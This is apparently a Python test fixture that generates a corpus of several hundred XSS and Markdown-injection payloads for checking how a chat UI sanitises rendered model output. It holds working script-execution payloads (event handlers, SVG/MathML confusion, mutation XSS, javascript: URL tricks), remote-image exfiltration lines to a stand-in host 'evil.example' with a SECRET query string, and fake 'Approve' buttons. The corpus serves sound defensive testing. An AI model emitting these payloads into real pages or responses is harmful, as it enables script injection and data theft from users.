"""XSS and Markdown-injection payloads that model output (text, thoughts, tool arguments and results) may carry.

Written from public knowledge of the classes: raw HTML with event handlers, SVG / MathML and namespace
confusion, entity tricks, script URLs hidden by escapes, entities and reference definitions, fences that
a regex and a CommonMark parser read differently, CSS, meta / base, form spoofing, mutation XSS, comments,
CDATA, odd characters, very long attributes, and remote images (the prompt-injection exfiltration channel).

Every payload that would execute sets a page flag, ``window.__agyPwned`` (a list of payload ids), or calls
``alert(id)``; every remote fetch goes to a host under ``evil.example``, which must never be requested.
``python tests/xss_corpus.py`` writes the same corpus to ``tests/xss_corpus.json`` for the JavaScript tests.
"""
from __future__ import annotations

import base64
import json
import pathlib
import urllib.parse
from dataclasses import asdict, dataclass

EVIL_HOST = "evil.example"  # a reserved name: any request to it is a leak
JSON_PATH = pathlib.Path(__file__).with_name("xss_corpus.json")


@dataclass(frozen=True)
class Payload:
    id: int
    cls: str  # the injection class, a short name
    text: str


def flag(pid: int) -> str:
    """JavaScript that records payload `pid` as executed (no spaces or quotes, so it fits anywhere)."""
    return f"top.__agyPwned=(top.__agyPwned||[]).concat({pid})"


def _entities(text: str, hexadecimal: bool = True) -> str:
    return "".join(f"&#x{ord(c):x};" if hexadecimal else f"&#{ord(c)};" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# Templates: $JS is the flag-setting code, $ID the payload id, $JSU the code percent-encoded,
# $B64 base64 of a <script> that sets the flag, $ALERTB64 base64 of a <script> that calls alert,
# $EVIL the remote host. Each class lists (template, ...) in order.
TEMPLATES: dict[str, list[str]] = {
    "html-event": [
        '<img src=x onerror="$JS">',
        "<img src=x onerror=$JS>",
        "<IMG SRC=x OnErRoR=$JS>",
        "<img src=x:x onerror=$JS//",
        '<img src="x" onerror="$JS"',
        '<image src=x onerror="$JS">',
        '<svg onload="$JS">',
        "<svg/onload=$JS>",
        '<body onload="$JS">',
        '<body onpageshow="$JS">',
        '<details open ontoggle="$JS">open</details>',
        '<details ontoggle="$JS" open>',
        '<video><source onerror="$JS"></video>',
        '<video src=x onerror="$JS"></video>',
        '<audio src=x onerror="$JS"></audio>',
        '<iframe srcdoc="<script>$JS</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=$JS&gt;"></iframe>',
        '<iframe src="javascript:$JS"></iframe>',
        '<iframe onload="$JS"></iframe>',
        '<object data="javascript:$JS"></object>',
        '<embed src="javascript:$JS">',
        '<marquee onstart="$JS">marquee</marquee>',
        '<input autofocus onfocus="$JS">',
        '<select autofocus onfocus="$JS"></select>',
        '<textarea autofocus onfocus="$JS"></textarea>',
        '<keygen autofocus onfocus="$JS">',
        '<div contenteditable autofocus onfocus="$JS">edit</div>',
        '<div tabindex=1 autofocus onfocusin="$JS">focus</div>',
        '<div onmouseover="$JS" style="position:fixed;inset:0">cover</div>',
        "<script>$JS</script>",
        "<ScRiPt>$JS</sCrIpT>",
        '<script src="data:text/javascript,$JSU"></script>',
        "<script>/*</script><img src=x onerror=$JS>*/</script>",
        '<picture><source srcset=x><img src=x onerror="$JS"></picture>',
        '<link rel=stylesheet href=x onerror="$JS">',
        '<style onload="$JS"></style>',
        '<frameset onload="$JS">',
        '<isindex type=image src=x onerror="$JS">',
        '<img """><script>$JS</script>">',
        '<a href="javascript:$JS">click</a>',
        '<p>safe</p><img src=x onerror="$JS">',
        '<img src=x onerror="$JS"/>',
        '<img src=x onerror="alert($ID)">',
    ],
    "svg-mathml": [
        '<svg><animate onbegin="$JS" attributeName=x dur=1s>',
        '<svg><set onbegin="$JS" attributeName=x to=1>',
        '<svg><a xlink:href="javascript:$JS"><text x=20 y=20>svg link</text></a></svg>',
        "<svg><script>$JS</script></svg>",
        '<svg><script href="data:text/javascript,$JSU"/></svg>',
        '<svg><foreignObject><img src=x onerror="$JS"></foreignObject></svg>',
        '<svg><style><img src=x onerror="$JS"></style></svg>',
        '<svg></p><style><a id="</style><img src=1 onerror=$JS>">',
        '<math><mtext><table><mglyph><style><img src=x onerror="$JS">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=$JS&gt;">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$JS>',
        '<math><mi xlink:href="javascript:$JS">math link</mi></math>',
        '<math href="javascript:$JS">math href</math>',
        '<svg><animate attributeName=href values="javascript:$JS"/><a><text y=20>animated</text></a></svg>',
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='$JS'/></svg>#x\"/></svg>",
        '<svg><image href=x onerror="$JS"/></svg>',
        '<math><annotation-xml encoding="text/html"><img src=x onerror="$JS"></annotation-xml></math>',
        '<svg><desc><img src=x onerror="$JS"></desc></svg>',
        '<svg><title><img src=x onerror="$JS"></title></svg>',
        '<svg><p><style><img src=x onerror="$JS"></style></p></svg>',
    ],
    "mxss": [
        '<noscript><p title="</noscript><img src=x onerror=$JS>">',
        '<template><img src=x onerror="$JS"></template>',
        "<template><script>$JS</script></template>",
        '<noembed><img title="</noembed><img src=x onerror=$JS>"></noembed>',
        '<noframes><img title="</noframes><img src=x onerror=$JS>"></noframes>',
        '<xmp><img title="</xmp><img src=x onerror=$JS>"></xmp>',
        '<textarea><img title="</textarea><img src=x onerror=$JS>"></textarea>',
        '<title><img title="</title><img src=x onerror=$JS>"></title>',
        '<iframe><img title="</iframe><img src=x onerror=$JS>"></iframe>',
        '<style><img title="</style><img src=x onerror=$JS>"></style>',
        '<table><a><img src=x onerror="$JS"></a></table>',
        '<a href="#"><table><a><img src=x onerror="$JS">',
    ],
    "comment-cdata": [
        '<!--><img src=x onerror="$JS">-->',
        '<!-- --!><img src=x onerror="$JS">-->',
        '<!--<img src="--><img src=x onerror=$JS//">',
        '<![CDATA[><img src=x onerror="$JS">]]>',
        '<svg><![CDATA[><img src=x onerror="$JS">]]></svg>',
        '<?xml-stylesheet ?><img src=x onerror="$JS">',
        '<!DOCTYPE html><img src=x onerror="$JS">',
        '<!-- unclosed comment <img src=x onerror="$JS">',
    ],
    "entity": [
        '<a href="&#x6a;avascript:$JS">hex entity</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$JS">decimal entities</a>',
        '<a href="jav&#x09;ascript:$JS">tab entity</a>',
        '<a href="jav&Tab;ascript:$JS">named tab</a>',
        '<a href="javascript&colon;$JS">named colon</a>',
        '<a href=" &#14; javascript:$JS">control char</a>',
        '<a href="&#0000106avascript:$JS">padded</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A$JS">no semicolons</a>',
        "&lt;img src=x onerror=$JS&gt;",
        "&#60;img src=x onerror=$JS&#62;",
        "&amp;lt;img src=x onerror=$JS&amp;gt;",
        "\\<img src=x onerror=$JS>",
        '<img src=x onerror="&#x74;op.__agyPwned=(top.__agyPwned||[]).concat($ID)">',
        '<img src=x onerror="$ENT">',
    ],
    "md-link": [
        "[link](javascript:$JS)",
        "[link](JAVASCRIPT:$JS)",
        "[link](javascript&#58;$JS)",
        "[link](&#x6a;avascript:$JS)",
        "[link](&#106;avascript:$JS)",
        "[link](javascript&colon;$JS)",
        "[link](jav&Tab;ascript:$JS)",
        "[link](java&#x09;script:$JS)",
        "[link](javascript\\:$JS)",
        "[link](java\\script:$JS)",
        "[link](<javascript:$JS>)",
        "[link](  javascript:$JS  )",
        '[link](javascript:$JS "title")',
        "[link](vbscript:msgbox($ID))",
        "[link](data:text/html;base64,$ALERTB64)",
        "[link](data:text/html,<script>alert($ID)</script>)",
        "[ref link][r$ID]\n\n[r$ID]: javascript:$JS",
        '[r$ID]\n\n[r$ID]: <javascript:$JS> "title"',
        "[ref link][q$ID]\n\n[q$ID]:\n  javascript:$JS",
        "[ref link][e$ID]\n\n[e$ID]: &#x6a;avascript:$JS",
        "[ref link][b$ID]\n\n[b$ID]: javascript\\:$JS",
        "![image](javascript:$JS)",
        "<javascript:$JS>",
        "<JavaScript:$JS>",
        "<vbscript:msgbox($ID)>",
        "<data:text/html;base64,$ALERTB64>",
        '[link](#" onmouseover="$JS)',
        '[link](https://example.com "t\\" onmouseover=\\"$JS")',
        "[link](https://example.com 'a\" onmouseover=\"$JS')",
        '![alt" onerror="$JS](x)',
        '![alt](x" onerror="$JS)',
        "| a |\n|---|\n| [cell](javascript:$JS) |",
        "# [heading](javascript:$JS)",
        "> [quoted](javascript:$JS)",
        "- [listed](javascript:$JS)",
        "[<img src=x onerror=$JS>](https://example.com)",
        "[link]( javascript:$JS )",
        "[link](\u0001javascript:$JS)",
        "[^n$ID]\n\n[^n$ID]: [note](javascript:$JS)",
        "[link](javascript:/*\u2028*/$JS)",
        "www.example.com/<img src=x onerror=$JS>",
        "https://example.com/\"onmouseover=\"$JS",
    ],
    "remote": [
        "![x](https://$EVIL/md-$ID.png)",
        "![x](http://$EVIL/md-$ID.png?d=SECRET)",
        "![x][img$ID]\n\n[img$ID]: https://$EVIL/ref-$ID.png",
        "<img src=//$EVIL/raw-$ID.png>",
        '<img src="https://$EVIL/raw-$ID.png">',
        "![x](//$EVIL/protocol-relative-$ID.png)",
        "[![x](https://$EVIL/in-link-$ID.png)](https://example.com)",
        "![x](<https://$EVIL/angle-$ID.png>)",
        '![x](https://$EVIL/titled-$ID.png "title")',
        "![x](HTTPS://EVIL.EXAMPLE/UPPER-$ID.PNG)",
        '<video poster="https://$EVIL/poster-$ID.png"></video>',
        '<link rel=stylesheet href="https://$EVIL/style-$ID.css">',
        "<style>@import url(https://$EVIL/import-$ID.css);</style>",
        '<div style="background:url(https://$EVIL/bg-$ID.png)">bg</div>',
        '<picture><source srcset="https://$EVIL/srcset-$ID.png"><img></picture>',
        '<img srcset="https://$EVIL/srcset-$ID.png 1x">',
        '<svg><image href="https://$EVIL/svg-$ID.png"/></svg>',
        '<input type=image src="https://$EVIL/input-$ID.png">',
        '<body background="https://$EVIL/body-$ID.png">',
        '<table background="https://$EVIL/table-$ID.png"><tr><td>t</td></tr></table>',
        '<object data="https://$EVIL/object-$ID"></object>',
        '<iframe src="https://$EVIL/frame-$ID"></iframe>',
        '<audio src="https://$EVIL/audio-$ID.mp3" autoplay></audio>',
        "- item\n\n  ![x](https://$EVIL/list-$ID.png)",
        "| a |\n|---|\n| ![x](https://$EVIL/table-md-$ID.png) |",
        "![x](data:image/svg+xml;base64,$SVGB64)",
        "$$\\style{background:url(https://$EVIL/mathjax-$ID.png)}{x}$$",
        "[click me](https://$EVIL/phish-$ID)",
    ],
    "fence": [
        "\\`\\`\\`\n<img src=x onerror=$JS>",
        "\\`\\`\\`\n<img src=x onerror=$JS>\n\\`\\`\\`",
        "```\nx\n  ```\n<img src=x onerror=$JS>",
        "```\nx\n   ```\n<img src=x onerror=$JS>\n```",
        "```a`b\n<img src=x onerror=$JS>\n```",
        "~~~a`b\n<img src=x onerror=$JS>\n~~~",
        "```\n<img src=x onerror=$JS>",
        "````\n```\n<img src=x onerror=$JS>\n```\n````",
        "```\n```\n<img src=x onerror=$JS>",
        "- item\n\n  ```\n  code\n  ```\n<img src=x onerror=$JS>",
        "> ```\n> code\n<img src=x onerror=$JS>\n> ```",
        "```\nx\n```\n<div><img src=x onerror=$JS></div>",
        "``\n<img src=x onerror=$JS>\n``",
        "`` ` ``<img src=x onerror=$JS>",
        "\\`<img src=x onerror=$JS>`",
        '```python"><img src=x onerror=$JS>\ncode\n```',
        "```js\n</code></pre><img src=x onerror=$JS>\n```",
        "\t<img src=x onerror=$JS>",
        "~~~\n<img src=x onerror=$JS>\n```\n<img src=x onerror=$JS>",
        "<details><summary>s</summary>\n\n```\n</details><img src=x onerror=$JS>\n```",
        "</details><img src=x onerror=$JS>",
        "</sub><img src=x onerror=$JS>",
        "```json\n\"}</code></pre><img src=x onerror=$JS>\n```",
        "```\n\n\n<img src=x onerror=$JS>\n\n```x\n",
        "<div>\n*md*\n\n<img src=x onerror=$JS>",
    ],
    "css": [
        '<style>*{background:url("javascript:$JS")}</style>',
        '<div style="width:expression($JS)">expr</div>',
        '<link rel=stylesheet href="data:text/css,body{background:url(https://$EVIL/css-data-$ID.png)}">',
        "<svg><style>@import url(https://$EVIL/svg-style-$ID.css)</style></svg>",
    ],
    "meta-base": [
        '<meta http-equiv="refresh" content="0;url=javascript:$JS">',
        '<meta http-equiv="refresh" content="0;url=https://$EVIL/refresh-$ID">',
        '<base href="javascript:$JS//"><a href="x">relative</a>',
        '<base href="https://$EVIL/"><img src="base-$ID.png">',
        "<base href=//$EVIL/>\n\n![r](rel-$ID.png)",
    ],
    "spoof-hide": [
        "<style>body{display:none}</style>",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">cover</div>',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        '<form action="https://$EVIL/steal-$ID"><input name=key><button>Approve</button></form>',
        '<button onclick="$JS">Approve</button>',
        "<dialog open><button>Deny</button></dialog>",
        '<form><button formaction="javascript:$JS">Approve</button></form>',
        '<input type=submit formaction="javascript:$JS" value=Approve>',
        '<a href="#" class="agy-button">Approve</a>',
        "<select><option>Approve</option></select>",
        "- [ ] Approve\n- [x] Deny",
    ],
    "odd-chars": [
        "[link](java\u200bscript:$JS)",
        "<img src=x o\u0000nerror=$JS>",
        "<scr\u0000ipt>$JS</script>",
        '<img src=x onerror="$JS"\u200b>',
        "\u202e<img src=x onerror=$JS>",
        "\uff1cimg src=x onerror=$JS\uff1e",
        '<a href="\u0001javascript:$JS">C0</a>',
        "<img\u000csrc=x\u000conerror=$JS>",
        "<img/src=x/onerror=$JS>",
        "\ufeff<img src=x onerror=$JS>",
        "$$\\href{javascript:$JS}{math link}$$",
    ],
    "long": [
        '<img src=x title="' + "A" * 5000 + '" onerror="$JS">',
        "[long](javascript:/*" + "a" * 3000 + "*/$JS)",
        "B" * 20000 + "<img src=x onerror=$JS>",
        '<a href="https://$EVIL/' + "c" * 8000 + '">long href</a>',
        "```\n" + "x\n" * 2000 + "```\n<img src=x onerror=$JS>",
        "> " * 60 + "<img src=x onerror=$JS>",
        "- " * 60 + "[deep](javascript:$JS)",
    ],
}


def _expand(template: str, pid: int) -> str:
    js = flag(pid)
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><image href='https://{EVIL_HOST}/svg-in-data-{pid}.png'/></svg>"
    return (template.replace("$JSU", urllib.parse.quote(js, safe=""))
            .replace("$ENT", _entities(js, hexadecimal=False))
            .replace("$ALERTB64", _b64(f"<script>alert({pid})</script>"))
            .replace("$SVGB64", _b64(svg))
            .replace("$JS", js).replace("$ID", str(pid)).replace("$EVIL", EVIL_HOST))


def build() -> list[Payload]:
    payloads: list[Payload] = []
    for cls, templates in TEMPLATES.items():
        for template in templates:
            pid = len(payloads) + 1
            payloads.append(Payload(pid, cls, _expand(template, pid)))
    return payloads


PAYLOADS: list[Payload] = build()
BY_ID: dict[int, Payload] = {p.id: p for p in PAYLOADS}


def as_json() -> str:
    return json.dumps([asdict(p) for p in PAYLOADS], ensure_ascii=True, indent=1) + "\n"


if __name__ == "__main__":
    JSON_PATH.write_text(as_json(), encoding="utf-8")
    print(f"wrote {len(PAYLOADS)} payloads to {JSON_PATH}")
